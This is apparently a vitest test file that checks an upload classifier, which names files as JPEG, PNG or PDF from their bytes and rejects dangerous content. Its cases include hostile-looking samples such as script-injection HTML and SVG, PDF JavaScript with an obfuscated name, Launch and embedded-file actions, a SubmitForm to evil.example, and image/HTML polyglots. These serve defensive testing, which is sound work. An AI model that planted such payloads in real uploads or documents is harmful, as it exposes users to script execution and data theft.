import { expect, test } from 'vitest'
import { uploadKind } from './upload-kind.ts'

const bytes = (text: string) => Uint8Array.from(text, (letter) => letter.charCodeAt(0))

test.each([
  ['a photograph', '\xff\xd8\xff\xe0 JFIF', 'jpg'],
  ['a picture', '\x89PNG\r\n\x1a\n', 'png'],
  ['a document', '%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj', 'pdf'],
  ['a page for a browser', '<html><script>alert(1)</script>', undefined],
  ['a program', 'MZ\x90\x00', undefined],
  ['a drawing with a script', '<svg onload="x()">', undefined],
  ['nothing', '', undefined],
  ['a document that begins elsewhere', 'x%PDF-1.7', undefined],
  ['a document with a script', '%PDF-1.7 << /S /JavaScript /JS (app.alert(1)) >>', undefined],
  ['a document with a disguised script', '%PDF-1.7 << /S /J#61vaScript >>', undefined],
  ['a document that starts a program', '%PDF-1.7 << /OpenAction << /S /Launch >> >>', undefined],
  ['a document that carries a file', '%PDF-1.7 << /EmbeddedFiles 3 0 R >>', undefined],
  ['a document with a form that runs', '%PDF-1.7 << /AcroForm << /XFA 4 0 R >> >>', undefined],
  [
    'a scan whose packed bytes spell a short name',
    '%PDF-1.7\n4 0 obj << /Length 9 >> stream\n\x01\x02/AA \x03\x04\nendstream endobj',
    'pdf',
  ],
  [
    'a script beside a scan',
    '%PDF-1.7\n4 0 obj << >> stream\n\x01\nendstream endobj 5 0 obj << /AA 6 0 R >> endobj',
    undefined,
  ],
  [
    'a script inside of what is said to be packed',
    '%PDF-1.7\n4 0 obj << >> stream\n<< /S /JavaScript >>\nendstream endobj',
    undefined,
  ],
  ['a document that sends a form', '%PDF-1.7 << /S /SubmitForm /F (http://evil.example) >>', undefined],
  ['a document that opens another machine', '%PDF-1.7 << /S /GoToR /F (//evil/share/a.pdf) >>', undefined],
  ['a document that is a page to a browser', '%PDF-1.4\n<script>alert(1)</script>', undefined],
  ['a photograph that is a page to a browser', '\xff\xd8\xff\xe0 JFIF <HTML><body>', undefined],
  ['a picture that is a page to a browser', '\x89PNG\r\n\x1a\n<!doctype html>', undefined],
  [
    'a document that opens at a page',
    '%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction [3 0 R /Fit] >> endobj',
    'pdf',
  ],
  ['a closed document', '%PDF-1.7 trailer << /Encrypt 5 0 R >>', undefined],
] as const)('[D12] %s is detected by its content', (_, content, kind) => {
  expect(uploadKind(bytes(content))).toBe(kind)
})
